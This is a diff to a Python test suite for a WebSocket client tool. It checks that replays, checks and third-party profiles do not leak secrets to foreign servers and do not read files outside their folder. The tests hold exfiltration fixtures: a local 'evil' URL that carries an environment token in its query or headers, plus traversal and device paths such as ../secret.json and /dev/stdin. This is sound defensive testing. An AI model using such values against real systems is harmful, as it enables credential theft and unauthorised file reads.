@@ -2,6 +2,7 @@
 """Files that somebody else wrote: none takes a value to a server that is not its own. Each test is the attempt, against a
 server that would see it succeed; the value is a word made up for the test."""
 import json
+import os
 import pathlib
 import signal
 import socket
@@ -9,6 +10,8 @@ import threading
 import unittest
 
 import harness
+import peers
+import run
 
 TOKEN = "home-token-8Hd72kQz"
 
@@ -44,7 +47,7 @@ class Listener:
         self.socket.close()
 
 
-class Strangers(harness.Test):
+class Attack(harness.Test):
     def setUp(self):
         super().setUp()
         self.stranger = Listener()
@@ -70,6 +73,8 @@ class Strangers(harness.Test):
         self.assertEqual(done.exit, exit_code, done.err)
         self.assertNotIn(TOKEN, done.out + done.err)
 
+
+class Strangers(Attack):
     def test_a_recording_takes_no_value_of_the_environment_to_its_server(self):
         file = self.recording()
         env = {"WHYDROP_ACCESS_TOKEN": TOKEN}
@@ -128,6 +133,211 @@ class Strangers(harness.Test):
         thread.join(5)
         self.assertIn(b"GET / HTTP/1.1", self.stranger.heard)
         self.assertNotIn(TOKEN.encode(), self.stranger.heard)
+
+
+KEY = "own-key-51Jq0wLmTz"
+
+
+class Homes(Attack):
+    """What a command line of a person's own took somewhere belongs there, whoever gives it later."""
+
+    def setUp(self):
+        super().setUp()
+        pathlib.Path(self.path("token")).write_text(TOKEN + "\n", encoding="utf-8")
+        self.given = ["--secret", "access_token=@" + self.path("token")]
+        self.home = self.rehearse()
+
+    def use_at_home(self):
+        done = self.whydrop("send", self.home + "/chat", "hello", *self.given)
+        self.assertEqual(done.exit, 0, done.err)
+
+    def test_a_value_that_was_used_elsewhere_follows_no_recording(self):
+        file = self.recording()
+        self.use_at_home()
+        done = self.whydrop("replay", file, *self.given)
+        self.assert_kept(done)
+        self.assertIn(f"would take there access_token (--secret; its home is {self.home})", done.err)
+        env = {"WHYDROP_ACCESS_TOKEN": TOKEN}
+        self.assert_kept(self.whydrop("replay", file, env=env))
+        self.assert_kept(self.whydrop("replay", file, "--var", "access_token=@" + self.path("token")))
+        self.assertEqual(self.stranger.heard, b"")
+        # At home it may be used by any means.
+        own = self.path("own.ndjson")
+        pathlib.Path(own).write_text(
+            pathlib.Path(file).read_text(encoding="utf-8").replace(f"127.0.0.1:{self.stranger.port}", self.home.split("/")[2]),
+            encoding="utf-8")
+        for more, environment in ((self.given, {}), ([], env)):
+            done = self.whydrop("replay", own, *more, env=environment)
+            self.assertEqual(done.exit, 0, done.err)
+
+    def test_the_record_holds_no_value(self):
+        self.use_at_home()
+        records = list(pathlib.Path(self.tmp).rglob("whydrop/homes"))
+        self.assertEqual(len(records), 1)
+        self.assertEqual(records[0].stat().st_mode & 0o777, 0o600)
+        self.assertEqual(records[0].parent.stat().st_mode & 0o777, 0o700)
+        text = records[0].read_text(encoding="utf-8")
+        self.assertIn(self.home, text)
+        self.assertNotIn(TOKEN, text)
+        records[0].chmod(0o644)
+        done = self.whydrop("replay", self.recording(), *self.given)
+        self.assert_kept(done, 3)
+        self.assertIn("others may read or change it", done.err)
+
+    def test_a_check_takes_none_along(self):
+        self.use_at_home()
+        evil = f"ws://localhost:{self.stranger.port}/"
+        checks = (
+            {"url": evil + "?t={token}", "variables": {"token": {"env": "WHYDROP_ACCESS_TOKEN", "secret": True}}},
+            {"url": evil + "?t={$env:WHYDROP_ACCESS_TOKEN}"},
+            {"url": evil + "?{more}", "variables": {"more": "t={token}", "token": {"env": "WHYDROP_ACCESS_TOKEN", "secret": True}}},
+            {"url": evil, "headers": {"X-More": "{$env:WHYDROP_ACCESS_TOKEN}"}},
+        )
+        for target in checks:
+            with self.subTest(target=target):
+                file = self.path("check.json")
+                pathlib.Path(file).write_text(json.dumps({"whydrop_check": 1, "name": "reads", "target": target,
+                                                          "steps": [{"connect": {}}]}), encoding="utf-8")
+                done = self.whydrop("check", file, env={"WHYDROP_ACCESS_TOKEN": TOKEN})
+                self.assert_kept(done)
+                self.assertIn("its home is", done.out)
+                self.assertEqual(self.stranger.heard, b"")
+        self.whydrop("check", file, "--send-to", "localhost", env={"WHYDROP_ACCESS_TOKEN": TOKEN})
+        self.assertIn(TOKEN.encode(), self.stranger.heard)
+
+    def test_a_check_reads_no_other_variable_by_a_name_of_its_own(self):
+        file = self.path("check.json")
+        target = {"url": f"ws://localhost:{self.stranger.port}/?{{key}}", "variables": {"key": {"env": "DEPLOY_KEY", "secret": True}}}
+        pathlib.Path(file).write_text(json.dumps({"whydrop_check": 1, "name": "reads", "target": target,
+                                                  "steps": [{"connect": {}}]}), encoding="utf-8")
+        self.assert_kept(self.whydrop("check", file, env={"DEPLOY_KEY": TOKEN}))
+        self.whydrop("check", file, "--env", "DEPLOY_KEY", env={"DEPLOY_KEY": TOKEN})
+        self.assertIn(TOKEN.encode(), self.stranger.heard)
+
+
+class Replies(Attack):
+    """A profile that somebody wrote, and the replies of its servers, lead no value to another site."""
+
+    def home(self, answers):
+        stage = peers.Stage(harness.WHYDROP, self.tmp, run.environment(self.tmp))
+        self.addCleanup(stage.__exit__)
+        return stage.start_http(answers, {})["url"]
+
+    def profile(self, home, **socket):
+        text = json.dumps({
+            "whydrop_profile": 1, "name": "theirs", "title": "Theirs", "about": "A profile from a wiki.", "status": "served",
+            "variables": {"key": {"about": "the key", "secret": True}, "ticket": {"about": "what the call gives", "secret": True},
+                          "uri": {"about": "where the socket is"}},
+            "calls": {"begin": {"about": "begins", "url": home + "/begin", "headers": {"X-Key": "{key}"},
+                                "take": {"ticket": "/ticket", "uri": "/uri"}}},
+            "session": ["begin"], "socket": {"url": "{uri}", **socket}})
+        pathlib.Path(self.path("theirs.json")).write_text(text, encoding="utf-8")
+        pathlib.Path(self.path("key")).write_text(KEY + "\n", encoding="utf-8")
+        return ["--profile", self.path("theirs.json"), "--var", "key=@" + self.path("key"), "--no-store"]
+
+    def answers(self, host):
+        return [{"json": {"ticket": TOKEN, "uri": f"ws://{host}:{self.stranger.port}/"}}]
+
+    def test_a_reply_leads_no_value_to_another_site(self):
+        for header in ({"X-Ticket": "{ticket}"}, {"X-Key": "{key}"}):
+            with self.subTest(header=header):
+                asked = ["send", *self.profile(self.home(self.answers("localhost")), headers=header), "--new-session", "x"]
+                done = self.whydrop(*asked)
+                self.assert_kept(done)
+                self.assertIn(f"theirs.json: it leads to ws://localhost:{self.stranger.port}, and would take there", done.err)
+                self.assertIn("--send-to localhost", done.err)
+                self.assertEqual(self.stranger.heard, b"")
+        self.whydrop("send", *self.profile(self.home(self.answers("localhost")), headers=header), "--new-session", "x",
+                     "--send-to", f"localhost:{self.stranger.port}")
+        self.assertIn(KEY.encode(), self.stranger.heard)
+
+    def test_within_one_site_it_may(self):
+        self.whydrop("send", *self.profile(self.home(self.answers("127.0.0.1")), headers={"X-Ticket": "{ticket}"}), "--new-session", "x")
+        self.assertIn(TOKEN.encode(), self.stranger.heard)
+
+    def test_what_carries_nothing_may_lead_anywhere(self):
+        self.whydrop("send", *self.profile(self.home(self.answers("localhost"))), "--new-session", "x")
+        self.assertIn(b"GET / HTTP/1.1", self.stranger.heard)
+
+    def test_a_profile_takes_no_value_that_was_used_elsewhere(self):
+        home = self.rehearse()
+        pathlib.Path(self.path("key")).write_text(KEY + "\n", encoding="utf-8")
+        self.assertEqual(self.whydrop("send", home, "x", "--secret", "key=@" + self.path("key")).exit, 0)
+        profile = self.profile(f"http://localhost:{self.stranger.port}")
+        done = self.whydrop("session", "create", *profile)
+        self.assert_kept(done)
+        self.assertIn(f"cannot make call begin of profile {self.path('theirs.json')}: it leads to ws://localhost", done.err)
+        self.assertEqual(self.stranger.heard, b"")
+
+    def test_a_recording_leads_the_calls_of_a_profile_nowhere_else(self):
+        """The recording says what the profile's variables were: the region is part of where its calls go."""
+        text = json.dumps({
+            "whydrop_profile": 1, "name": "regional", "title": "Regional", "about": "One of the person's own.", "status": "served",
+            "variables": {"key": {"about": "the key", "secret": True}, "at": {"about": "the region", "default": "127.0.0.1:1"},
+                          "ticket": {"about": "what the call gives", "secret": True}},
+            "calls": {"begin": {"about": "begins", "url": "http://{at}/begin", "headers": {"X-Key": "{key}"}, "take": {"ticket": "/ticket"}}},
+            "session": ["begin"], "socket": {"url": "ws://{at}/?t={ticket}"}})
+        own = pathlib.Path(self.path("regional.json"))
+        own.write_text(text, encoding="utf-8")
+        played = {"whydrop_rehearsal": 1, "profile": "regional", "server": [
+            {"on": "call:begin", "do": [{"refuse": 200, "json": {"ticket": TOKEN}}]}],
+            "scenarios": {"happy": {"says": "greetings", "client": [{"raw": "hello"}]}}}
+        pathlib.Path(self.path("played.json")).write_text(json.dumps(played), encoding="utf-8")
+        made = self.path("called.ndjson")
+        env = {"WHYDROP_KEY": KEY}
+        done = self.whydrop("send", "--profile", str(own), "--rehearse=happy", "--rehearsal", self.path("played.json"), "--capture", made,
+                            env=env)
+        self.assertEqual(done.exit, 0, done.err)
+        lines = pathlib.Path(made).read_text(encoding="utf-8").replace("127.0.0.1:1", f"localhost:{self.stranger.port}").splitlines()
+        head = json.loads(lines[0])
+        head["variables"] = {"at": f"localhost:{self.stranger.port}"}
+        pathlib.Path(made).write_text("\n".join([json.dumps(head), *lines[1:]]) + "\n", encoding="utf-8")
+        done = self.whydrop("replay", made, "--profile", str(own), env=env)
+        self.assert_kept(done)
+        self.assertIn(f"cannot make call begin of profile {own}: it leads to ws://localhost:{self.stranger.port}", done.err)
+        self.assertNotIn(KEY.encode(), self.stranger.heard)
+
+
+class NamedFiles(harness.Test):
+    """A file names files of its own folder: no others, no pipe, no device."""
+
+    def check(self, folder, target, schema):
+        pathlib.Path(self.path(folder)).mkdir(exist_ok=True)
+        file = pathlib.Path(self.path(folder)) / "check.json"
+        file.write_text(json.dumps({"whydrop_check": 1, "name": "names", "target": target, "steps": [
+            {"connect": {}}, {"expect": {"where": {"": {"schema": schema}}}}]}), encoding="utf-8")
+        return str(file)
+
+    def setUp(self):
+        super().setUp()
+        pathlib.Path(self.path("secret.json")).write_text('{"type": "string"}', encoding="utf-8")
+        os.mkfifo(self.path("pipe"))
+
+    def test_of_a_check(self):
+        outside = "it does not stand below the folder of the file that names it"
+        url = {"url": self.rehearse()}
+        for target, schema, says in (
+                (url, "../secret.json", outside), (url, self.path("secret.json"), outside), (url, "/dev/zero", "it is no plain file"),
+                (url, "../pipe", "it is no plain file"), (url, {"$ref": "../secret.json"}, outside),
+                ({"profile": "../secret.json"}, {}, outside), ({"profile": "/dev/stdin"}, {}, "it is no plain file")):
+            with self.subTest(target=target, schema=schema):
+                done = self.whydrop("check", self.check("theirs", target, schema), "--list")
+                self.assertEqual(done.exit, 2, done.err)
+                self.assertIn(says, done.err)
+        for schema in ("../secret.json", {"$ref": "../secret.json"}):
+            done = self.whydrop("check", self.check("theirs", url, schema), "--list", "--allow-path", self.path("secret.json"))
+            self.assertEqual(done.exit, 0, done.err)
+
+    def test_of_a_schema(self):
+        pathlib.Path(self.path("theirs")).mkdir()
+        for name in ("../secret.json", "/dev/zero", "../pipe"):
+            pathlib.Path(self.path("theirs/s.json")).write_text(json.dumps({"$ref": name}), encoding="utf-8")
+            done = self.whydrop("validate", "--schema", self.path("theirs/s.json"), self.path("secret.json"))
+            self.assertEqual(done.exit, 2, done.err)
+            self.assertIn("it does not stand below" if name == "../secret.json" else "is", done.err)
+        pathlib.Path(self.path("theirs/s.json")).write_text('{"$ref": "../secret.json"}', encoding="utf-8")
+        done = self.whydrop("validate", "--schema", self.path("theirs/s.json"), self.path("secret.json"), "--allow-path", self.tmp)
+        self.assertEqual(done.exit, 1, done.err)
 
 
 class Captures(harness.Test):
